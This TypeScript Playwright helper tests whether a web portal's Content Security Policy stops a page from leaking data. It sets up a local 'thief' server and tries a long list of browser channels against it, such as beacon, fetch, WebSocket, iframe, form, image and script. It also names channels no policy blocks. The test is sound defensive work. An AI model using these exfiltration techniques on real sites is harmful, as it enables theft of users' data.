import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from '@playwright/test';
import { expect } from './portal-fixture.ts';

/** A server of a thief, which counts what reaches it: any connection, whatever is asked for by it. */
async function startThief() {
  let reached = 0;
  const server = createServer((_, response) => {
    response.writeHead(200, { 'access-control-allow-origin': '*' }).end();
  });
  server.on('connection', () => {
    reached += 1;
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    origin: `http://127.0.0.1:${port}`,
    reached: () => reached,
    stop: () => new Promise((resolve) => server.close(resolve)),
  };
}

/**
 * Tries to send something in every way that a page has. `listBlocked` in the page lists what its policy blocked: the path of an address, or
 * `inline`.
 */
const tryToSend = (page: Page, origin: string) =>
  page.evaluate(async (address) => {
    const blocked = new Set<string>();
    Object.assign(window, { listBlocked: () => [...blocked].sort() });
    addEventListener('securitypolicyviolation', ({ blockedURI }) => {
      blocked.add(URL.canParse(blockedURI) ? new URL(blockedURI).pathname : blockedURI);
    });
    const attempt = (work: () => unknown) => {
      try {
        work();
      } catch {
        // Some refuse by an exception, others by an event.
      }
    };
    const add = (name: string, attributes: Readonly<Record<string, string>>) => {
      const element = document.createElement(name);
      for (const [attribute, value] of Object.entries(attributes)) element.setAttribute(attribute, value);
      document.body.append(element);
      return element;
    };
    attempt(() => add('a', { href: '#', ping: `${address}/ping` }).click());
    for (const rel of ['prefetch', 'modulepreload', 'stylesheet', 'manifest'])
      attempt(() => add('link', { rel, href: `${address}/${rel}` }));
    attempt(() => add('iframe', { src: `${address}/frame` }));
    attempt(() => add('object', { data: `${address}/object` }));
    attempt(() => add('video', { src: `${address}/video` }));
    attempt(() => new Worker(`${address}/worker`));
    attempt(() => new WebSocket(`${address.replace('http:', 'ws:')}/socket`));
    attempt(() => new EventSource(`${address}/events`));
    attempt(() => (add('form', { action: `${address}/form`, method: 'post' }) as HTMLFormElement).submit());
    await fetch(`${address}/fetch`, { mode: 'no-cors' }).catch(() => undefined);
    navigator.sendBeacon(`${address}/beacon`, 'stolen');
    new Image().src = `${address}/image`;
    add('script', { src: `${address}/script` });
    const inline = document.createElement('script');
    inline.textContent = 'window.ranInline = true';
    document.body.append(inline);
  }, origin);

/** Those of the attempts of which every browser tells the page. */
const told = ['/beacon', '/events', '/fetch', '/form', '/image', '/script', '/socket', 'inline'];

/**
 * Nothing that a script in the page asks for leaves it, by its policy alone.
 *
 * Three ways are not tried, because no policy stops them: to go to another page with words in its address, WebRTC, whose requests to a relay carry a
 * name, and links that open a connection ahead (`preconnect`, `dns-prefetch`), which name a host. All need code that does it. The policy runs no code but
 * the one whose hash it names (`inline` above), so such code is a change of the file's bytes: its SHA-256 is another one then, and its policy may be too.
 * That the built file does neither of the first two is said by `keys-file.test.ts`; React's functions for the third are in it, and nothing calls them.
 */
export async function expectNothingSent(page: Page): Promise<void> {
  const thief = await startThief();
  await tryToSend(page, thief.origin);
  const listBlocked = () =>
    page.evaluate(() => (window as unknown as { listBlocked(): string[] }).listBlocked());
  await expect.poll(listBlocked).toEqual(expect.arrayContaining(told));
  expect(await page.evaluate(() => 'ranInline' in window)).toBe(false);
  expect(thief.reached()).toBe(0);
  await thief.stop();
}
